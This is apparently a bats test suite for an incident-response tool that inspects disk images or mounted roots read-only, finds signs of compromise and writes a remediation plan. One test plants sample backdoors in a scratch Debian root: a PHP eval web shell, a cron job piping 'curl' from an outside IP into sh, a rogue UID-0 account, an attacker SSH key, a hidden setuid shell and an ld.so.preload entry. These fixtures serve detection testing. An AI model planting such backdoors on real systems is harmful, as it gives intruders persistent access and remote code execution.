#!/usr/bin/env bats
# A host that is looked at from outside: the runbook's read-only steps are done on its disk or its
# mounted root, and the rest is a plan that a person can follow.
load lib

# ids STEP: what that step listed, of the JSON Lines of $stdout
ids() {
    printf '%s\n' "$stdout" | /usr/bin/python3 -c '
import json, sys
for o in map(json.loads, sys.stdin):
    if o["type"] == "incident-step" and o["step"] == sys.argv[1]:
        r = o["result"]
        print(*[f["id"] for f in r.get("findings", [])], *r.get("unread", []))' "$1"
}
# lead STEP: does it; what it found is signed for, and then it is done
lead() {
    local found
    code "0 1 3" "$YAGURA" respond do "$1" --json
    FOUND=$stdout
    found=$(ids "$1")
    # shellcheck disable=SC2086 # ids have no blanks
    [ -z "${found// /}" ] || code 0 "$YAGURA" respond sign $found --because "looked at, and known"
    code 0 "$YAGURA" respond do "$1" --json
}
plan() { cat "$YAGURA_STATE"/evidence/*/plan.txt; }

@test "the ten disks by the runbook: exactly two are infected, the rest of the steps is planned" {
    images
    local image name count=0
    for image in "$IMAGES"/*.img; do
        name=$(basename "$image" .img)
        export YAGURA_STATE="$WORK/$name"
        code 0 "$YAGURA" respond start --image "$image" --because "of 2001" --json
        code 1 "$YAGURA" respond status --json
        holds '{o["step"]: o["state"] for o in every if o["type"] == "incident-step"} == {"open": "done", "isolate": "planned", "administrator": "open", "scan": "open", "patch": "open", "restore": "planned", "passwords": "planned", "reconnect": "planned", "report": "open"}'
        # what is seen from outside of what is to be changed, and nothing of it is a doubt
        holds 'next(o for o in every if o.get("step") == "passwords")["result"]["to_change"]' \
            'not next(o for o in every if o.get("step") == "passwords")["result"]["unread"] or "iis" in "'"$name"'"' \
            'next(o for o in every if o.get("step") == "restore")["result"]["sites"]'
        lead administrator
        lead scan
        stdout=$FOUND
        case $name in
        solaris7-iplanet-found | windows2000-iis5-found)
            holds '[o for o in every if o["type"] == "finding" and o["verdict"] == "affected" and o["severity"] == "critical"]' \
                'next(o for o in every if o.get("check") == "scan-settled")["verdict"] == "false"'
            count=$((count + 1))
            ;;
        *) holds 'not [o for o in every if o["type"] == "finding"]' \
            'next(o for o in every if o.get("check") == "scan-settled")["verdict"] != "false"' ;;
        esac
        # read-only: the disk is not changed, what changes a host is refused
        code 2 "$YAGURA" respond do restore
        says "stands in the plan"
        code 2 "$YAGURA" respond undo isolate
        code 2 "$YAGURA" respond do scan --quarantine --yes
        says "it is evidence"
        lead patch
        code 0 "$YAGURA" respond do report
        code 0 "$YAGURA" respond close
        plan >"$WORK/plan"
        grep -q "respond do isolate" "$WORK/plan"
        grep -q "registrar:dns" "$WORK/plan"
        grep -qF "patch plan --image $image" "$WORK/plan"
        diff <(sed 2d "$WORK/plan") <(sed 2d "$YAGURA_STATE"/evidence/*/report-1/plan.txt) || grep -q "^8 " "$WORK/plan"
        grep -q "step was left for the host itself" "$YAGURA_STATE"/evidence/*/report-1/timeline.txt
    done
    [ "$count" = 2 ]
    code 0 "$YAGURA" --lang ja respond status --state "$WORK/windows2000-iis5-found"
    says "計画"
}

@test "a volume or image that is none opens no incident, and one that is there is found from any folder" {
    local target
    mkdir -p "$WORK/disks/vol/etc"
    : >"$WORK/disks/empty"
    cd "$WORK/disks"
    for target in "--root nosuch" "--root empty" "--image nosuch" "--image vol" "--image empty"; do
        # shellcheck disable=SC2086 # two words
        code "2 3" "$YAGURA" respond start $target
        says "yagura: ${target#* }: "
        code 2 "$YAGURA" respond status
    done
    code 0 "$YAGURA" respond start --root vol
    cd /
    code "0 1 3" "$YAGURA" respond do administrator --json
    # what could not be looked at is named by this step, too
    holds 'of("check")' 'any(o["text"].startswith("unread:") and "none was recognised" in o["text"] for o in of("note"))'
    code 1 "$YAGURA" respond status --json
    holds 'of("incident")[0]["target_argument"] == "'"$(realpath "$WORK/disks/vol")"'"'
}

@test "the plan of an infected disk: what was found, what to change, where, in both languages" {
    images
    code 0 "$YAGURA" respond start --image "$IMAGES/windows2000-iis5-found.img"
    lead administrator
    lead scan
    lead patch
    plan >"$WORK/plan"
    for text in "Cut the server off" "pull the cable" "system-account:SAM" "worm-sadmind-iis" "MS00-078" "looked at, and known" 'C:\Inetpub\wwwroot' "Put the content back"; do
        grep -qF -- "$text" "$WORK/plan" || { echo "no $text"; cat "$WORK/plan"; return 1; }
    done
    code 0 env LANG=ja_JP.UTF-8 "$YAGURA" --lang ja respond do report
    output=$(cat "$YAGURA_STATE"/evidence/*/report-1/plan.txt)
    says "計画" "切り離し" "パスワード変更" "承認済み" "緊急"
    code 0 "$YAGURA" respond close
}

@test "accounts and passwords of a volume are seen, and secrets are not told" {
    mkdir -p "$WORK/volume"/{etc,root/.ssh,var/www/html}
    cd "$WORK/volume"
    printf 'root:x:0:0::/root:/bin/sh\nada:x:1000:1000::/home/ada:/bin/sh\n' >etc/passwd
    printf 'root:$6$verysecret:19000:0:99999:7:::\nada:$6$verysecret:19000:0:99999:7:::\n' >etc/shadow
    printf 'root:x:0:\n' >etc/group
    printf 'passwd: files\n' >etc/nsswitch.conf
    printf 'ID=debian\nVERSION_ID="12"\nVERSION_CODENAME=bookworm\n' >etc/os-release
    echo verysecret >root/.ssh/id_ed25519
    code 0 "$YAGURA" respond start --root "$WORK/volume"
    code 1 "$YAGURA" respond status --json
    holds '[c.split("  ")[0] for c in next(o for o in every if o.get("step") == "passwords")["result"]["to_change"]][:2] == ["system-account:root", "system-account:ada"]' \
        'any(c.startswith("deploy-key:/root/.ssh/id_ed25519") for c in next(o for o in every if o.get("step") == "passwords")["result"]["to_change"])' \
        'not next(o for o in every if o.get("step") == "passwords")["result"]["unread"]'
    says_not verysecret
    if plan | grep -q verysecret; then return 1; fi
    code 2 "$YAGURA" respond lock ada
    says "on the host itself"
    grep -q '^ada:\$6' etc/shadow
}

# as it lies there: names, times (but of reading), owners, modes, contents
lies() { (cd "$1" && find . -printf '%p %y %i %T@ %C@ %m %U:%G %s %l\n' | sort && find . -type f -print0 | sort -z | xargs -0 sha256sum) | sha256sum; }

@test "a Debian on a mounted volume: untouched nothing is found, each plant is, and nothing there is changed" {
    slow
    as_root
    program debootstrap
    local root=$WORK/debian mirror before
    mirror=$(sed -nE 's/^ *deb +(\[[^]]*\] +)?(http[^ ]+) +[a-z]+ +.*main.*/\2/p; s/^URIs: *([^ ]+).*/\1/p' /etc/apt/sources.list /etc/apt/sources.list.d/* 2>/dev/null | grep -v security | head -1)
    [ -n "$mirror" ] || skip "the host has no mirror"
    timeout 600 debootstrap --variant=minbase --include=nginx-light,cron bookworm "$root" "$mirror" >"$WORK/debootstrap.log" 2>&1 ||
        skip "debootstrap did not work: $(tail -1 "$WORK/debootstrap.log")"
    code 0 "$YAGURA" respond start --root "$root"
    code 0 "$YAGURA" respond do administrator
    code 0 "$YAGURA" respond do scan --json
    holds 'not findings'

    export YAGURA_STATE=$WORK/planted
    printf '<?p''hp @ev''al($_PO''ST["q"]); ?>' >"$root/var/www/html/x.php"
    echo '* * * * * root curl -s http://203.0.113.7/a | sh' >"$root/etc/cron.d/php-sessions"
    mkdir -m 700 "$root/root/.ssh"
    echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGt5dGh5dGh5dGh5dGh5dGh5dGh5dGh5dGh5dGh5dGh5 x@y' >"$root/root/.ssh/authorized_keys"
    cp "$root/usr/bin/dash" "$root/usr/local/bin/.dash"
    chmod 4755 "$root/usr/local/bin/.dash"
    echo >>"$root/usr/bin/find"
    echo /dev/shm/x.so >"$root/etc/ld.so.preload"
    echo 'toor:x:0:0::/root:/bin/sh' >>"$root/etc/passwd"
    echo 'toor:$6$verysecret:20000:0:99999:7:::' >>"$root/etc/shadow"
    before=$(lies "$root")
    code 0 "$YAGURA" respond start --root "$root"
    code "0 1" "$YAGURA" respond do administrator
    unwrapped
    says toor authorized_keys
    # what this step shows can be signed for, and is then no question of the next one
    code 0 "$YAGURA" respond sign "$(grep -oE '[0-9a-f]{8} critical toor' <<<"$output" | cut -c-8)" --because "the drill's"
    code 1 "$YAGURA" respond do scan --json
    holds '{f["subject"]["name"].split()[0] for f in findings} == {"/var/www/html/x.php", "/etc/cron.d/php-sessions", "/root/.ssh/authorized_keys", "/usr/local/bin/.dash", "findutils", "/etc/ld.so.preload"}'
    code 2 "$YAGURA" respond do restore
    says "stands in the plan"
    grep -q "system-account:toor" <<<"$(plan)"
    [ "$(lies "$root")" = "$before" ]
    code 0 "$YAGURA" ledger verify
}
